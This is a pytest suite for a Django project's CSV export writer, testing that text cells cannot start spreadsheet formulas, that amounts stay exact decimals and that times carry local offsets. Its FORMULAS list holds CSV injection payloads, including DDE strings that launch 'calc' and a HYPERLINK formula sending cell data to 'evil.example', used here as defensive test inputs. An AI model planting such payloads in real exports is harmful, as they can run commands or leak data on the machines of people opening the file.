"""What the one CSV writer makes of values: no formula, no lost text, exact money, local times (T18-T20)."""

import csv
import io
import unicodedata
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.db.models import DateTimeField, F, IntegerField, TextField
from django.db.models.functions import Cast
from hypothesis import HealthCheck, given, settings, strategies as st

from atomicpay.workspaces.errors import NoActiveWorkspace
from atomicpay.workspaces.models import Workspace
from exports import cells
from exports.writer import FileColumn, header_line, neutralise_text, restore_text, write_csv
from sales.models import Sale
from tests.factories import SaleFactory

REFERENCE = [FileColumn("reference", (F("reference"),), cells.safe_text)]
AMOUNT = FileColumn("amount", (F("amount_charged"), F("currency")), cells.decimal_amount)

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    '=DDE("cmd";"/C calc";"!A0")',
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u3000+1",
    "\u200b@x",
    "\u2060-1",
    "\t=1",
    "\tplain",
    "\r=1",
    "\rplain",
    "\n=1",
    "\nplain",
    "\x0b=1",
    "\x1f1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "﹦1",
    " \u00a0 ＝1",
    "'=1",
    "''=1",
    "-",
]
HARMLESS = [
    "",
    "'",
    "'tis the season",
    "Antônia Figueirêdo",
    "Água = vida",
    "a=b",
    " leading space",
    "#1",
    "10 - 3",
    "5% off",
    "a,b",
    'say "hi"',
    "line\nbreak",
    "line\r\nbreak",
    ";",
    "\u202eright to left",
    "👩🏽‍🎨 art",
    "\\=1",
    "(=1)",
    "x" * 33_000,
]


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def written(queryset, columns, *, zone: str = "UTC") -> list[list[str]]:
    sink = io.BytesIO()
    rows = write_csv(queryset.order_by("pk"), columns, sink, zone=zone)
    table = read(sink.getvalue())
    assert rows == len(table) - 1
    return table[1:]


def may_run(cell: str) -> bool:
    """Whether a spreadsheet could run it, judged by Unicode and not by the writer's own list."""
    shown = next((char for char in cell if unicodedata.category(char) not in ("Zs", "Zl", "Zp", "Cf")), "")
    return unicodedata.category(shown or "a") == "Cc" or unicodedata.normalize("NFKC", shown)[:1] in {*"=+-@"}


def through_database(texts: list[str]) -> list[str]:
    """Each text as the cell that the writer makes of it."""
    template = SaleFactory(coupon="")
    Sale.objects.all().update(coupon="")
    for number, text in enumerate(texts):
        SaleFactory(
            customer=template.customer, product=template.product, external_id=f"t{number}", coupon=text
        )
    queryset = Sale.objects.exclude(pk=template.pk)
    return [row[0] for row in written(queryset, [FileColumn("text", (F("coupon"),), cells.safe_text)])]


def test_no_text_cell_begins_a_formula(in_aurora: Workspace) -> None:
    assert all(may_run(text) for text in FORMULAS if not text.startswith("'"))
    cells_of_file = through_database(FORMULAS)
    assert cells_of_file == [f"'{text}" for text in FORMULAS]
    assert not any(may_run(cell) for cell in cells_of_file)


def test_harmless_text_is_written_as_it_is(in_aurora: Workspace) -> None:
    assert through_database(HARMLESS) == HARMLESS


def test_text_can_be_restored(in_aurora: Workspace) -> None:
    texts = FORMULAS + HARMLESS
    assert [restore_text(cell) for cell in through_database(texts)] == texts


def test_python_and_database_neutralise_alike(in_aurora: Workspace) -> None:
    texts = FORMULAS + HARMLESS
    assert through_database(texts) == [neutralise_text(text) for text in texts]


_ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12)
_NASTY_TEXT = st.text(st.sampled_from("=+-@'\t\r\n \u00a0\u200b\ufeff＝＋－＠﹣a1,;\"\\"), max_size=8)


@settings(deadline=None, max_examples=500)
@given(st.one_of(_ANY_TEXT, _NASTY_TEXT))
def test_any_text_is_safe_and_restored(text: str) -> None:
    cell = neutralise_text(text)
    assert not may_run(cell)
    assert restore_text(cell) == text


@settings(deadline=None, max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(_ANY_TEXT, _NASTY_TEXT), min_size=1, max_size=8))
def test_any_text_survives_the_file(in_aurora: Workspace, texts: list[str]) -> None:
    Sale.objects.all().delete()
    cells_of_file = through_database(texts)
    assert [restore_text(cell) for cell in cells_of_file] == texts
    assert not any(may_run(cell) for cell in cells_of_file)


def test_headings_are_made_safe() -> None:
    assert read(header_line(["sale_id", "=cmd()", 'a,"b"'])) == [["sale_id", "'=cmd()", 'a,"b"']]


def test_amounts_are_exact_decimals_of_their_currency(in_aurora: Workspace) -> None:
    amounts = {"BRL": 8_900, "JPY": 12_345, "KWD": 1_234_567, "CLF": 15, "USD": 1}
    for currency, minor in amounts.items():
        SaleFactory(currency=currency, amount_charged=minor, external_id=currency)
    SaleFactory(currency="BRL", amount_charged=9_007_199_254_740_993, amount_fee=-5, external_id="huge")
    fee = FileColumn("fee", (F("amount_fee"), F("currency")), cells.decimal_amount)
    columns = [AMOUNT, fee]
    assert written(Sale.objects.all(), columns) == [
        ["89.00", ""],
        ["12345", ""],
        ["1234.567", ""],
        ["0.0015", ""],
        ["0.01", ""],
        # A negative amount stays a number: no apostrophe. 2**53 + 1 would not survive a float.
        ["90071992547409.93", "-0.05"],
    ]


def test_sum_of_the_column_is_the_sum_of_the_books(in_aurora: Workspace) -> None:
    amounts = [1, 10, 99, 100, 333, 8_900]
    for minor in amounts:
        SaleFactory(amount_charged=minor)
    rows = written(Sale.objects.all(), [AMOUNT])
    assert sum(Decimal(row[0]) for row in rows) == Decimal(sum(amounts)) / 100


@pytest.mark.parametrize(
    ("zone", "local"),
    [
        ("America/Sao_Paulo", "2018-11-03T23:59:59-03:00"),
        ("Asia/Kathmandu", "2018-11-04T08:44:59+05:45"),
        ("UTC", "2018-11-04T02:59:59+00:00"),
    ],
)
def test_times_are_local_with_their_offset(in_aurora: Workspace, zone: str, local: str) -> None:
    SaleFactory(ordered_at=datetime(2018, 11, 4, 2, 59, 59, 999_999, tzinfo=UTC))
    columns = [FileColumn(name, (F(name),), cells.local_time) for name in ("ordered_at", "approved_at")]
    assert written(Sale.objects.all(), columns, zone=zone) == [[local, ""]]


def test_phones_are_digits_and_conditions_words(in_aurora: Workspace) -> None:
    SaleFactory(buyer_phone="+55 (11) 91234-0142", installments=12)
    columns = [
        FileColumn("phone", (F("buyer_phone"),), cells.digits),
        FileColumn("test", (F("is_test"),), cells.yes_or_no),
        FileColumn("installments", (F("installments"),), cells.whole_number),
    ]
    assert written(Sale.objects.all(), columns) == [["5511912340142", "false", "12"]]


def test_zero_rows_are_a_header(in_aurora: Workspace) -> None:
    sink = io.BytesIO()
    assert write_csv(Sale.objects.order_by("pk"), REFERENCE, sink, zone="UTC") == 0
    assert sink.getvalue() == b"reference\n"


@pytest.mark.parametrize("kind", ["time", "amount", "text"])
def test_one_column_without_values_has_a_line_for_each_row(in_aurora: Workspace, kind: str) -> None:
    """A reader of CSV passes over lines of nothing: its rows would be fewer than the receipt's."""
    for _ in range(3):
        SaleFactory()
    source = {
        "time": FileColumn("at", (Cast(None, DateTimeField()),), cells.local_time),
        "amount": FileColumn("amount", (Cast(None, IntegerField()), F("currency")), cells.decimal_amount),
        "text": FileColumn("text", (Cast(None, TextField()),), cells.safe_text),
    }
    sink = io.BytesIO()
    assert write_csv(Sale.objects.order_by("pk"), [source[kind]], sink, zone="UTC") == 3
    assert len(list(csv.DictReader(io.StringIO(sink.getvalue().decode(), newline="")))) == 3


def test_progress_is_told_by_the_thousand(in_aurora: Workspace) -> None:
    sale = SaleFactory()
    Sale.objects.bulk_create(
        [
            SaleFactory.build(
                customer=sale.customer,
                product=sale.product,
                workspace_id=in_aurora.pk,
                external_id=f"b{number}",
            )
            for number in range(2_000)
        ]
    )
    told: list[int] = []
    write_csv(
        Sale.objects.order_by("pk"),
        REFERENCE,
        io.BytesIO(),
        zone="UTC",
        on_rows=told.append,
    )
    assert told == [1_000, 2_000, 2_001]


def test_no_workspace_is_an_error_and_nothing_is_written(aurora: Workspace) -> None:
    sink = io.BytesIO()
    with pytest.raises(NoActiveWorkspace):
        write_csv(Sale.objects.order_by("pk"), REFERENCE, sink, zone="UTC")
    assert sink.getvalue() == b""


def test_quick_look_lets_nothing_dangerous_pass() -> None:
    """What is let through by its first character alone would have been let through by the regexp."""
    first = [chr(code) for code in cells.HARMLESS_FIRST if code]
    assert [char for char in first if neutralise_text(f"{char}1") != f"{char}1"] == []
    assert [char for char in first if may_run(char)] == []
